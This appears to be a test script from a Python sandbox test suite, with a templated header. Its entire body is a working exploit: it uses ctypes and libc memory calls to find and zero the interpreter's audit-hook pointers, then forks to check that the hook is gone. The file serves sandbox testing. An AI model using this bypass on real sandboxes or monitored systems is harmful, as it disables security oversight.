# policy: --no-subprocess --seal
# evidence: created {mark}
# args: {mark}
# needs: module ctypes
# layer: kernel: nothing of layer 1 is left to stop it

# libc's own functions find and change the runtime's memory; the interpreter sees none of it.
# The event of os.fork, which nothing but the hook looks at, tells whether the hook is gone.
import ctypes
import os
import sys

libc = ctypes.CDLL(None)
libc.dlsym.restype = ctypes.c_void_p
runtime = libc.dlsym(None, b"_PyRuntime")
with open("/proc/self/maps") as maps:
    fields = [line.split() for line in maps]
spans = [(field[1], *(int(end, 16) for end in field[0].split("-"))) for field in fields]


def within(address, wanted):
    return any(rights[:3] == wanted and start <= address < end - 24 for rights, start, end in spans)


def words(address, count):
    copy = (ctypes.c_uint64 * count)()
    libc.memcpy(copy, ctypes.c_void_p(address), 8 * count)
    return list(copy)


end = min(end for _, start, end in spans if start <= runtime < end)
for index, head in enumerate(words(runtime, (end - runtime) // 8)):
    if head % 8 == 0 and within(head, "rw-"):
        following, function, data = words(head, 3)
        if within(function, "r-x") and following == data == 0:
            libc.memset(ctypes.c_void_p(runtime + 8 * index), 0, 8)
sys.audit("os.fork")
if os.fork() == 0:
    open(sys.argv[1], "w").close()
    os._exit(0)
os.wait()
